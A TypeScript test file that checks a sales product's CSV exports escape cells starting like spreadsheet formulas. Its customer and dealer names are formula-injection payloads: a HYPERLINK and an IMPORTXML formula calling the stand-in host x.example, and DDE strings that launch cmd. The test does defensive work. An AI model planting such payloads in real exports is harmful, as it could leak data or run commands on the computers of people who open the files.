/**
 * Every CSV the product writes neutralises formula cells: text that starts with `=`, `+`, `-`, `@`, a tab or a CR
 * reaches finance's spreadsheet as text (a leading `'`), while numbers stay numbers (a negative amount is `-12.50`,
 * never `'-12.50`). Through the API: hostile customer and dealer names go in, the export is parsed back.
 *
 * "Every CSV export" is checked from the code, not a list kept by hand: every route whose query offers
 * `format=csv` must have a case here, and no module but the shared writer may use csv-stringify.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { routeKey, routes } from '../../shared/api/routes.js';
import { call, createTenant, registrationBody, uniqueId } from '../support/api.js';
import { privateCurrency, privateYear, setTier } from '../support/enablement.js';
import { claimBody, fundRequestBody, openFunds, proofOf } from '../support/funds.js';

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Customer names that start like a formula, as far as a name may (tab and CR are refused at the door: 400). */
const HOSTILE_NAMES = [
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  '+49 Maschinen GmbH',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1 GmbH',
];

/** A fresh month far ahead, so that the export holds only this test's deals. */
const testMonth = () => `${2100 + Math.floor(Math.random() * 90)}-${String(1 + Math.floor(Math.random() * 12)).padStart(2, '0')}`;

const rowsOf = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];

/** Every cell of a parsed CSV: none may start like a formula. */
function formulaCells(rows: Record<string, string>[], numeric: readonly string[]) {
  return rows.flatMap((row) =>
    Object.entries(row).filter(
      ([column, value]) => FORMULA_START.test(value) && !(numeric.includes(column) && /^-?\d+(\.\d+)?$/.test(value)),
    ),
  );
}

async function hostileDeals() {
  const t = await createTenant();
  const admin = t.tokens.admin;
  // The dealer's own name is user text too (a channel admin typed it).
  await call('PUT', `/dealers/${t.dealerId}`, {
    token: admin,
    body: { name: '=IMPORTXML("http://x.example","//a")', regionId: t.regionId, email: `${t.dealerId}@dealer.example`, status: 'active' },
  });
  const month = testMonth();
  for (const [index, name] of HOSTILE_NAMES.entries()) {
    const body = registrationBody(
      { customer: { name: `${name} ${uniqueId('c')}`, country: 'DE', city: 'Köln' }, expectedCloseDate: `${month}-1${index}` },
      t.sku,
    );
    const created = await call('POST', '/registrations', { token: t.tokens.dealer, body });
    expect(created.status, created.text).toBe(201);
  }
  for (const start of ['\t', '\r']) {
    const refused = await call('POST', '/registrations', {
      token: t.tokens.dealer,
      body: registrationBody({ customer: { name: `${start}=1+1`, country: 'DE' } }, t.sku),
    });
    // Trimmed away or refused: never stored as a cell starting with a control character.
    expect([201, 400]).toContain(refused.status);
  }
  return { t, month };
}

const EXPORTS: Record<string, () => Promise<void>> = {
  'GET /price-list': async () => {
    const t = await createTenant();
    await setTier(t.dealerId, 'silver');
    const currency = privateCurrency();
    const year = privateYear();
    const skus: string[] = [];
    for (const name of HOSTILE_NAMES) {
      const sku = uniqueId('SKU');
      expect((await call('PUT', `/products/${sku}`, { token: t.tokens.admin, body: { name, productLine: 'milling' } })).status).toBe(200);
      skus.push(sku);
    }
    const body = {
      currency,
      validFrom: `${year}-01-01`,
      validTo: `${year}-12-31`,
      tierDiscountPercent: { gold: 30, silver: 20, bronze: 10 },
      items: skus.map((sku) => ({ sku, listPrice: { amount: 100_000, currency } })),
    };
    const put = await call('PUT', `/price-lists/${uniqueId('pl')}`, { token: t.tokens.admin, body });
    expect(put.status, put.text).toBe(200);
    const response = await call('GET', `/price-list?date=${year}-06-01&currency=${currency}&format=csv`, { token: t.tokens.dealer });
    expect(response.status, response.text).toBe(200);
    const rows = rowsOf(response.text);
    expect(rows.map((r) => r.sku).sort()).toEqual([...skus].sort());
    expect(formulaCells(rows, ['listPrice', 'discountPercent', 'netPrice'])).toEqual([]);
    for (const name of HOSTILE_NAMES) expect(rows.some((r) => r.name === `'${name}` || r.name === name)).toBe(true);
  },
  'GET /fund-claims': async () => {
    const t = await createTenant();
    await call('PUT', `/dealers/${t.dealerId}`, {
      token: t.tokens.admin,
      body: { name: '@SUM(1+1) Händler', regionId: t.regionId, email: `${t.dealerId}@dealer.example`, status: 'active' },
    });
    await openFunds(t);
    const ids: string[] = [];
    const proof = [await proofOf(t.tokens.dealer)];
    for (const name of HOSTILE_NAMES) {
      const created = await call('POST', '/fund-requests', { token: t.tokens.dealer, body: fundRequestBody(1_250, { activity: name }) });
      expect(created.status, created.text).toBe(201);
      await call('POST', `/fund-requests/${created.body.id}/decision`, { token: t.tokens.manager, body: { decision: 'approve' } });
      const claimed = await call('POST', `/fund-requests/${created.body.id}/claims`, {
        token: t.tokens.dealer,
        body: claimBody(1_250, proof),
      });
      await call('POST', `/fund-claims/${claimed.body.id}/decision`, { token: t.tokens.manager, body: { decision: 'approve' } });
      ids.push(claimed.body.id);
    }
    const response = await call('GET', '/fund-claims?status=approved&format=csv', { token: t.tokens.finance });
    expect(response.status).toBe(200);
    const rows = rowsOf(response.text).filter((r) => r['Dealer id'] === t.dealerId);
    expect(rows.map((r) => r.Claim).sort()).toEqual(ids.sort());
    expect(formulaCells(rows, ['Amount'])).toEqual([]);
    for (const name of HOSTILE_NAMES) expect(rows.some((r) => r.Activity === `'${name}`)).toBe(true);
    expect(rows.every((r) => r.Dealer === "'@SUM(1+1) Händler" && r.Amount === '12.50')).toBe(true);
  },
  'GET /forecast/deals': async () => {
    const { t, month } = await hostileDeals();
    const response = await call('GET', `/forecast/deals?from=${month}&to=${month}&format=csv&limit=5000`, { token: t.tokens.finance });
    expect(response.status).toBe(200);
    const rows = rowsOf(response.text).filter((r) => r.dealerId === t.dealerId);
    expect(rows.length).toBeGreaterThanOrEqual(HOSTILE_NAMES.length);
    expect(formulaCells(rows, ['value', 'weightedValue'])).toEqual([]);
    for (const name of HOSTILE_NAMES) expect(rows.some((r) => r.customerName?.startsWith(`'${name}`))).toBe(true);
    expect(rows.every((r) => r.dealerName === `'=IMPORTXML("http://x.example","//a")`)).toBe(true);
    expect(rows.every((r) => /^\d+\.\d\d$/.test(r.value ?? ''))).toBe(true);
  },
  'GET /forecast': async () => {
    const { t, month } = await hostileDeals();
    const response = await call('GET', `/forecast?from=${month}&to=${month}&groupBy=month,productLine,region,dealer,tier&format=csv`, {
      token: t.tokens.finance,
    });
    expect(response.status).toBe(200);
    const rows = rowsOf(response.text);
    expect(rows.some((r) => r.dealer === t.dealerId)).toBe(true);
    expect(formulaCells(rows, ['pipelineValue', 'weightedValue', 'wonValue', 'openDeals', 'wonDeals'])).toEqual([]);
    expect(rows.every((r) => /^\d+\.\d\d$/.test(r.pipelineValue ?? ''))).toBe(true);
  },
};

const csvRoutes = routes.filter((r) => {
  const format = r.query?.shape.format as
    | { options?: readonly string[]; def?: { innerType?: { options?: readonly string[] } } }
    | undefined;
  const options = format?.options ?? format?.def?.innerType?.options ?? [];
  return options.includes('csv');
});

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return sourceFiles(full);
    return entry.name.endsWith('.ts') ? [full] : [];
  });
}

describe('CSV exports', () => {
  it('has a case for every route that offers format=csv', () => {
    expect(csvRoutes.length).toBeGreaterThan(0);
    expect(csvRoutes.map(routeKey).sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  it('writes CSV only through the shared writer, which escapes formulas', () => {
    const root = path.resolve(import.meta.dirname, '../..');
    const users = ['functions', 'shared']
      .flatMap((dir) => sourceFiles(path.join(root, dir)))
      .filter((file) => /from 'csv-stringify/.test(readFileSync(file, 'utf8')));
    expect(users.map((file) => path.relative(root, file))).toEqual([path.join('shared', 'exports', 'csv.ts')]);
    expect(readFileSync(path.join(root, 'shared/exports/csv.ts'), 'utf8')).toMatch(/escape_formulas: true/);
  });

  it.each(Object.keys(EXPORTS))('%s: text cells never start like a formula, numbers stay numbers', async (key) => {
    await (EXPORTS[key] as () => Promise<void>)();
  });
});
